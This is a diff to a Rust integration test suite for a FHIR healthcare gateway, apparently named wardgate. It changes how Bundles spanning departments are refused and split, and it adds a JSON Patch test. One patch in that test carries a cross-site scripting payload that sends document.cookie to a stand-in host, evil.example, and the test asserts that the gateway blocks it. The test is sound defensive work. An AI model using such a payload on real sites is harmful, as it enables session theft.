@@ -412,22 +412,6 @@ fn without_meta(mut value: Value) -> Value {
     value
 }
 
-/// What of the corpus a test sends.
-#[derive(Clone, Copy, PartialEq)]
-enum Scope {
-    /// Resources of the types the default policy gives a department, and Bundles whose
-    /// entries all belong to the department they are sent to.
-    Served,
-    /// Everything.
-    Everything,
-}
-
-fn served(departments: &[(String, Vec<String>)], department: &str, rtype: &str) -> bool {
-    departments
-        .iter()
-        .any(|(name, types)| name == department && types.iter().any(|t| t == rtype))
-}
-
 /// What went wrong, grouped by the gateway's reason, each with the exact requests.
 #[derive(Default)]
 struct Findings(BTreeMap<String, Vec<String>>);
@@ -466,12 +450,11 @@ fn corpus_resources() -> Vec<(String, String)> {
     all
 }
 
-/// Load the corpus resources in `scope`; returns how many were sent and how many read back
-/// equal.
+/// Load every corpus resource into the department that serves its type; returns how many
+/// were sent and how many read back equal.
 async fn load_resources(
     client: &mut Client,
     departments: &[(String, Vec<String>)],
-    scope: Scope,
     findings: &mut Findings,
 ) -> (usize, usize) {
     let (mut sent, mut equal) = (0, 0);
@@ -479,9 +462,6 @@ async fn load_resources(
         let original: Value = serde_json::from_str(&line).unwrap();
         let rtype = original["resourceType"].as_str().unwrap().to_owned();
         let department = department_for(departments, &rtype);
-        if scope == Scope::Served && !served(departments, &department, &rtype) {
-            continue;
-        }
         sent += 1;
         let base = format!("/{department}/fhir/{rtype}");
         let (written, path) = match original["id"].as_str() {
@@ -545,11 +525,44 @@ async fn load_resources(
     (sent, equal)
 }
 
-/// The department a transaction Bundle goes to: the one its first entry's type belongs to.
-fn bundle_department(departments: &[(String, Vec<String>)], bundle: &Value) -> String {
+/// The department a transaction Bundle goes to: the first that serves every type its
+/// entries carry; `None` when its entries span departments.
+fn bundle_department(departments: &[(String, Vec<String>)], bundle: &Value) -> Option<String> {
     let types = entry_types(bundle);
-    department_for(departments, types.first().map_or("Bundle", String::as_str))
+    departments
+        .iter()
+        .find(|(_, served)| types.iter().all(|t| served.contains(t)))
+        .map(|(name, _)| name.clone())
 }
+
+/// Whether an entry's request names another server in full (a canonical URL, as some HL7
+/// examples do): not an address below this gateway's FHIR base.
+fn names_another_server(bundle: &Value) -> bool {
+    bundle["entry"].as_array().is_some_and(|entries| {
+        entries.iter().any(|e| {
+            e["request"]["url"]
+                .as_str()
+                .is_some_and(|url| url.starts_with("http://") || url.starts_with("https://"))
+        })
+    })
+}
+
+/// Whether an entry calls an operation (`ValueSet/$lookup`): operations are refused unless
+/// the policy names them (the default policy names no terminology operation), and the
+/// department must serve the operation's type.
+fn calls_an_operation(bundle: &Value) -> bool {
+    bundle["entry"].as_array().is_some_and(|entries| {
+        entries.iter().any(|e| {
+            e["request"]["url"]
+                .as_str()
+                .is_some_and(|url| url.split('?').next().unwrap_or(url).contains('$'))
+        })
+    })
+}
+
+/// The Bundles the gateway refuses by design, each with the reason it gave.
+#[derive(Default)]
+struct Refused(Vec<(String, String)>);
 
 /// The resource types a Bundle's entries carry or name in their request URL.
 fn entry_types(bundle: &Value) -> Vec<String> {
@@ -569,13 +582,16 @@ fn entry_types(bundle: &Value) -> Vec<String> {
         .unwrap_or_default()
 }
 
-/// Load the corpus Bundles in `scope`; returns how many were sent and how many read back
-/// equal.
+/// Load every corpus Bundle; returns how many were sent and how many read back equal. A
+/// transaction is atomic within one department's store, so one whose entries span
+/// departments is refused (403, naming where each type is served), as is one whose entries
+/// address another server in full (400), or call an operation the policy does not name (403):
+/// those go into `refused`, with the reason given.
 async fn load_bundles(
     client: &mut Client,
     departments: &[(String, Vec<String>)],
-    scope: Scope,
     findings: &mut Findings,
+    refused: &mut Refused,
 ) -> (usize, usize) {
     let mut paths: Vec<_> = std::fs::read_dir(repo().join("testdata/fhir/bundles"))
         .unwrap()
@@ -590,9 +606,6 @@ async fn load_bundles(
         if bundle["type"] != "transaction" {
             // A document Bundle is a resource of its own: stored and read back whole.
             let department = department_for(departments, "Bundle");
-            if scope == Scope::Served && !served(departments, &department, "Bundle") {
-                continue;
-            }
             sent += 1;
             let id = bundle["id"].as_str().unwrap();
             let url = format!("/{department}/fhir/Bundle/{id}");
@@ -614,12 +627,43 @@ async fn load_bundles(
             }
             continue;
         }
-        let department = bundle_department(departments, &bundle);
-        if scope == Scope::Served
-            && !entry_types(&bundle)
-                .iter()
-                .all(|t| served(departments, &department, t))
-        {
+        let spans_departments = bundle_department(departments, &bundle).is_none();
+        let (department, expected) = match bundle_department(departments, &bundle) {
+            _ if names_another_server(&bundle) => (
+                department_for(departments, &entry_types(&bundle)[0]),
+                Some((400, "is not below this FHIR base")),
+            ),
+            _ if calls_an_operation(&bundle) => (
+                department_for(departments, &entry_types(&bundle)[0]),
+                Some((403, "the whole Bundle is refused")),
+            ),
+            Some(department) => (department, None),
+            None => (
+                department_for(departments, &entry_types(&bundle)[0]),
+                Some((403, "it is served by /")),
+            ),
+        };
+        if let Some((status, says)) = expected {
+            let url = format!("/{department}/fhir");
+            let answer = client
+                .send("POST", &url, &[("content-type", FHIR_JSON)], text.clone())
+                .await;
+            let reason = answer.reason();
+            if answer.status == status && reason.contains(says) {
+                refused.0.push((name.clone(), reason));
+                // What the refusal tells the client to do: one transaction per department.
+                if spans_departments && !calls_an_operation(&bundle) {
+                    sent += 1;
+                    if split_by_department(client, departments, &bundle, &name, findings).await {
+                        equal += 1;
+                    }
+                }
+            } else {
+                findings.add(
+                    format!("expected {status} saying '{says}', got {reason}"),
+                    format!("POST {url} ({name}, transaction)"),
+                );
+            }
             continue;
         }
         sent += 1;
@@ -690,6 +734,106 @@ async fn load_bundles(
         }
     }
     (sent, equal)
+}
+
+/// Send a transaction whose entries span departments as the gateway's refusal says: one
+/// transaction per department. The client gives each created resource its id (`urn:uuid:X`
+/// becomes `PUT Type/X`), so every reference is known before anything is sent: one into
+/// the same department becomes `Type/id`, one into another names that department's resource
+/// in full. Returns whether every entry reads back equal (apart from `meta`).
+async fn split_by_department(
+    client: &mut Client,
+    departments: &[(String, Vec<String>)],
+    bundle: &Value,
+    name: &str,
+    findings: &mut Findings,
+) -> bool {
+    let origin = format!("https://{}", client.addr);
+    let mut entries: Vec<(String, Value)> = Vec::new();
+    let mut homes = HashMap::new();
+    for entry in bundle["entry"].as_array().unwrap() {
+        let mut entry = entry.clone();
+        let url = entry["request"]["url"].as_str().unwrap().to_owned();
+        let rtype = url.split(['/', '?']).next().unwrap().to_owned();
+        let home = department_for(departments, &rtype);
+        if let Some(uuid) = entry["fullUrl"]
+            .as_str()
+            .and_then(|f| f.strip_prefix("urn:uuid:"))
+            .map(str::to_owned)
+        {
+            let id = if entry["request"]["method"] == "POST" {
+                entry["request"] =
+                    serde_json::json!({"method": "PUT", "url": format!("{rtype}/{uuid}")});
+                entry["resource"]["id"] = Value::String(uuid.clone());
+                uuid.clone()
+            } else {
+                url.split('/').nth(1).unwrap_or_default().to_owned()
+            };
+            homes.insert(
+                format!("urn:uuid:{uuid}"),
+                (home.clone(), format!("{rtype}/{id}")),
+            );
+        }
+        entries.push((home, entry));
+    }
+    let mut all_equal = true;
+    let mut by_department: BTreeMap<String, Vec<Value>> = BTreeMap::new();
+    for (home, mut entry) in entries {
+        let map: HashMap<String, String> = homes
+            .iter()
+            .map(|(full, (target_home, local))| {
+                let to = if *target_home == home {
+                    local.clone()
+                } else {
+                    format!("{origin}/{target_home}/fhir/{local}")
+                };
+                (full.clone(), to)
+            })
+            .collect();
+        rewrite_references(&mut entry["resource"], &map);
+        by_department.entry(home).or_default().push(entry);
+    }
+    for (home, part) in by_department {
+        let sub =
+            serde_json::json!({"resourceType": "Bundle", "type": "transaction", "entry": part});
+        let url = format!("/{home}/fhir");
+        let answer = client
+            .send(
+                "POST",
+                &url,
+                &[("content-type", FHIR_JSON)],
+                sub.to_string(),
+            )
+            .await;
+        if answer.status != 200 {
+            findings.add(
+                answer.reason(),
+                format!("POST {url} ({name}, its {home} part)"),
+            );
+            all_equal = false;
+            continue;
+        }
+        for entry in &part {
+            if entry["request"]["method"] != "PUT" {
+                continue;
+            }
+            let path = format!("/{home}/fhir/{}", entry["request"]["url"].as_str().unwrap());
+            let got = client.send("GET", &path, &[], "").await;
+            if got.status != 200
+                || without_meta(got.json()) != without_meta(entry["resource"].clone())
+            {
+                all_equal = false;
+                findings.add(
+                    format!(
+                        "{} split transaction entry reads back differently",
+                        got.status
+                    ),
+                    format!("GET {path} ({name})"),
+                );
+            }
+        }
+    }
+    all_equal
 }
 
 fn rewrite_references(value: &mut Value, map: &HashMap<String, String>) {
@@ -801,9 +945,10 @@ async fn store_and_retrieve_dicom(client: &mut Client, findings: &mut Findings) 
     identical
 }
 
-/// Start `wardgate serve`, log in, send the corpus in `scope`; every refusal or change is
-/// a failure that names the requests and the gateway's reasons.
-async fn corpus_through_the_gateway(scope: Scope) -> (usize, usize, usize) {
+/// Start `wardgate serve`, log in, send the whole corpus; every refusal or change, apart from
+/// the Bundles refused by design (returned), is a failure that names the requests and the
+/// gateway's reasons.
+async fn corpus_through_the_gateway() -> (usize, usize, usize, Refused) {
     let dir = tempfile::tempdir().unwrap();
     std::fs::write(dir.path().join("wardgate.toml"), test_policy()).unwrap();
     std::fs::create_dir_all(dir.path().join("data")).unwrap();
@@ -815,10 +960,11 @@ async fn corpus_through_the_gateway(scope: Scope) -> (usize, usize, usize) {
     let departments = departments_by_type();
     let mut findings = Findings::default();
 
+    let mut refused = Refused::default();
     let (resources_sent, resources) =
-        load_resources(&mut client, &departments, scope, &mut findings).await;
+        load_resources(&mut client, &departments, &mut findings).await;
     let (bundles_sent, bundles) =
-        load_bundles(&mut client, &departments, scope, &mut findings).await;
+        load_bundles(&mut client, &departments, &mut findings, &mut refused).await;
     let dicom = store_and_retrieve_dicom(&mut client, &mut findings).await;
 
     assert!(
@@ -832,28 +978,126 @@ async fn corpus_through_the_gateway(scope: Scope) -> (usize, usize, usize) {
     assert_eq!(resources, resources_sent);
     assert_eq!(bundles, bundles_sent);
     assert_eq!(dicom, dicom_files().len());
-    (resources, bundles, dicom)
+    (resources, bundles, dicom, refused)
 }
 
+/// Every resource of the corpus (of any of its 100+ types: the record keeps the types no
+/// other department lists) and every Bundle goes through the gateway and reads back equal,
+/// and the 24 DICOM files byte-identical. A transaction whose entries span departments
+/// (Synthea's whole-patient Bundles: Organization, Claim, MedicationRequest, ...) is refused
+/// whole, naming where each type is served: a transaction is atomic within one department's
+/// store and wardgate has no commit across stores. Sent as the refusal says, one transaction
+/// per department, every entry of it loads and reads back equal. Two HL7 examples stay
+/// refused: one addresses its entries to another server, one calls `$lookup`, which the
+/// default policy does not allow.
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
-async fn the_corpus_the_default_policy_serves_goes_through_the_gateway_unchanged() {
-    let (resources, bundles, _) = corpus_through_the_gateway(Scope::Served).await;
-    // Most of the corpus is of the types the default policy gives a department.
-    assert!(resources > 8000, "only {resources} resources were sent");
-    assert!(bundles >= 1, "no Bundle was sent");
-}
-
-/// The whole corpus, including the types no department of the default policy serves and the
-/// transaction Bundles whose entries span departments: open findings, for the lead to decide
-/// (the policy's coverage of types, and how a cross-department Bundle is to be loaded).
-#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
-#[ignore = "open: 910 corpus resources of 98 types have no department in the default policy, \
-            7 transaction Bundles span departments, 1 HL7 Bundle has absolute request URLs; \
-            run with --ignored to see every refused request"]
 async fn the_whole_corpus_goes_through_the_gateway_unchanged() {
-    let (resources, bundles, _) = corpus_through_the_gateway(Scope::Everything).await;
-    assert_eq!(resources, 9273);
-    assert_eq!(bundles, 10);
+    let (resources, bundles, _, refused) = corpus_through_the_gateway().await;
+    assert_eq!(resources, corpus_resources().len());
+    assert!(resources > 9000, "only {resources} resources were sent");
+    let names: Vec<&str> = refused.0.iter().map(|(name, _)| name.as_str()).collect();
+    assert_eq!(
+        names,
+        [
+            "authored-edge-cases-transaction.json",
+            "hl7-r4-example-bundle-transaction.json",
+            "hl7-r4-example-hla-1.json",
+            "hl7-r4-example-ussg-fht.json",
+            "inferno-transaction-pdex_bundle_patient_999.json",
+            "inferno-transaction-uscore_bundle_patient_client_test.json",
+            "synthea-transaction-Clemente_Kreiger.json",
+            "synthea-transaction-Freda_OConnell.json",
+        ],
+        "{:#?}",
+        refused.0
+    );
+    let files = std::fs::read_dir(repo().join("testdata/fhir/bundles"))
+        .unwrap()
+        .filter(|e| {
+            e.as_ref()
+                .unwrap()
+                .path()
+                .extension()
+                .is_some_and(|x| x == "json")
+        })
+        .count();
+    // Every Bundle but the two HL7 examples loaded (whole, or split by department).
+    assert_eq!(bundles, files - 2);
+}
+
+/// JSON Patch (`PATCH [base]/Type/id`, `application/json-patch+json`) through every phase:
+/// a nurse's wording passes the firewall and is applied, `If-Match` guards the version, a
+/// patch that plants a script is blocked before the department, and a patch that would break
+/// the resource is refused with nothing changed.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn json_patch_goes_through_the_gateway() {
+    const PATCH_JSON: &str = "application/json-patch+json";
+    let dir = tempfile::tempdir().unwrap();
+    std::fs::write(dir.path().join("wardgate.toml"), test_policy()).unwrap();
+    std::fs::create_dir_all(dir.path().join("data")).unwrap();
+    add_physician(dir.path(), &[]);
+    let served = start(dir.path(), &[]);
+    let data = dir.path().join("data");
+    let mut client = Client::new(served.public, &data.join("ca.pem"));
+    client.log_in(&data, None).await;
+
+    let path = "/emergency/fhir/Observation/patch-e2e";
+    let observation = r#"{"resourceType":"Observation","id":"patch-e2e","status":"preliminary","code":{"text":"Heart rate"},"subject":{"reference":"Patient/obrien"},"valueQuantity":{"value":88,"unit":"/min"}}"#;
+    let put = client
+        .send("PUT", path, &[("content-type", FHIR_JSON)], observation)
+        .await;
+    assert_eq!(put.status, 201, "{}", put.text());
+
+    let note = "Patient O'Brien refused to select a drop-in clinic; -- re-check at 22:00";
+    let patch = serde_json::json!([
+        {"op": "test", "path": "/status", "value": "preliminary"},
+        {"op": "replace", "path": "/status", "value": "final"},
+        {"op": "add", "path": "/note", "value": [{"text": note}]},
+    ])
+    .to_string();
+    let applied = client
+        .send(
+            "PATCH",
+            path,
+            &[("content-type", PATCH_JSON), ("if-match", "W/\"1\"")],
+            patch.clone(),
+        )
+        .await;
+    assert_eq!(applied.status, 200, "{}", applied.reason());
+    let read = client.send("GET", path, &[], "").await.json();
+    assert_eq!(read["status"], "final");
+    assert_eq!(read["note"][0]["text"], note);
+    assert_eq!(read["meta"]["versionId"], "2");
+
+    // The same patch against version 1 again: the resource moved on.
+    let stale = client
+        .send(
+            "PATCH",
+            path,
+            &[("content-type", PATCH_JSON), ("if-match", "W/\"1\"")],
+            patch,
+        )
+        .await;
+    assert_eq!(stale.status, 412, "{}", stale.reason());
+
+    // A script planted through a patch never reaches the department.
+    let hostile = serde_json::json!([
+        {"op": "add", "path": "/note/-", "value": {"text": "<script>fetch('//evil.example/'+document.cookie)</script>"}},
+    ])
+    .to_string();
+    let blocked = client
+        .send("PATCH", path, &[("content-type", PATCH_JSON)], hostile)
+        .await;
+    assert_eq!(blocked.status, 403, "{}", blocked.reason());
+
+    // A patch that removes what an Observation must have is refused; nothing changes.
+    let breaking = r#"[{"op":"remove","path":"/resourceType"}]"#;
+    let refused = client
+        .send("PATCH", path, &[("content-type", PATCH_JSON)], breaking)
+        .await;
+    assert!((400..500).contains(&refused.status), "{}", refused.reason());
+    let after = client.send("GET", path, &[], "").await.json();
+    assert_eq!(after, read, "a refused patch changed the resource");
 }
 
 fn postgres_url() -> Option<String> {
